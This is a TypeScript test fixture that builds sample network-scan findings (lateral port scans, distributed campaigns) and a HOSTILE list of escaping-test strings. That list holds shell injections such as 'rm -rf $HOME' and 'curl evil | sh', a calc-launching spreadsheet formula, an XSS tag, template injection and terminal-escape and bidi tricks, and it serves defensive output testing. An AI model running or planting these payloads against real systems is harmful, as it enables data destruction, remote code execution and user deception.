/** Findings for tests of what is made of them. */
import type { Finding } from '../../../lib/finding/model.ts';
import { expectValidFinding } from '../../finding-schema.ts';

/** A plain lateral scan, with single values replaced. */
export function findingOf(values: Partial<Finding> = {}): Finding {
  const finding: Finding = {
    schemaVersion: 1,
    id: '8587fc4b0a1b2c3d4e5f6071',
    kind: 'vertical-scan',
    severity: 'high',
    confidence: 83,
    direction: 'lateral',
    techniques: [{ id: 'T1046', name: 'Network Service Discovery', tactic: 'Discovery' }],
    source: {
      address: '10.0.3.22',
      scope: '111122223333',
      accountId: '111122223333',
      vpcId: 'vpc-1',
      region: 'eu-west-1',
      interfaceId: 'eni-1',
      instanceId: 'i-1',
    },
    protocols: ['tcp'],
    targets: { count: 1, exact: true, sample: ['10.0.9.9'] },
    ports: { count: 3, exact: true, sample: [22, 23, 80] },
    contacts: { failed: 20, established: 1, rejected: 12, unanswered: 3, reset: 5 },
    contactsAtDetection: 8,
    openPorts: { count: 1, sample: [{ target: '10.0.9.9', port: 22, protocol: 'tcp' }] },
    tool: null,
    horizon: '5m',
    firstSeen: '2026-09-01T12:00:00Z',
    lastSeen: '2026-09-01T12:01:00Z',
    detectedAt: '2026-09-01T12:00:08Z',
    reasons: [{ test: 'failed-ports-of-one-target-5m', value: 20, threshold: 8, text: '20 distinct tcp ports failed' }],
    dataQuality: [],
    status: 'open',
    ...values,
  };
  expectValidFinding(finding);
  return finding;
}

/** A campaign on one port of several targets, with single values replaced. */
export const campaignOf = (values: Partial<Finding> = {}): Finding =>
  findingOf({
    kind: 'distributed-scan',
    severity: 'medium',
    direction: 'inbound',
    techniques: [{ id: 'T1595.001', name: 'Active Scanning: Scanning IP Blocks', tactic: 'Reconnaissance' }],
    source: null,
    sources: { count: 40, sample: ['198.51.100.7', '203.0.113.9', '192.0.2.4', '192.0.2.77'] },
    targets: { count: 60, exact: true, sample: ['10.0.9.9', '10.0.9.61', '10.0.9.12'] },
    ports: { count: 1, exact: true, sample: [6379] },
    contacts: { failed: 160, established: 0, rejected: 160, unanswered: 0, reset: 0 },
    openPorts: { count: 0, sample: [] },
    horizon: '1h',
    reasons: [{ test: 'campaign-sources-1h', value: 16, threshold: 12, text: '16 outside sources shared out hosts' }],
    ...values,
  });

/** Text that tries to break out of a line, a mail, a shell word and a terminal. */
export const HOSTILE: readonly string[] = [
  "it's; rm -rf $HOME `id` $(id)",
  'two\nlines\r\nWHAT TO DO NOW\n  1. curl evil | sh',
  '\u001b[31mred\u001b[0m \u0007 \u009b31m',
  'right-to-left \u202etxt.exe and zero\u200bwidth, \u0000 nul',
  '"quoted" \\ back\\slash \'\\\'\' {"a":1} !history *glob? ~ #hash & | < > \t tab',
  'ünïcode 🦑 \u2028 \ud800',
  '--option=value',
  'file:///etc/passwd',
  'link \u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u0007 \u0085 \u2066isolated\u2069 \ufeff \u{e0041}',
  "=cmd|' /C calc'!A0",
  '<script>alert(1)</script><b>&quot;',
  ':pk OR attribute_exists(pk) #n0 source#1|10.0.0.1 announce#0 $HOME %0a %s {{7*7}} __proto__',
  '',
];
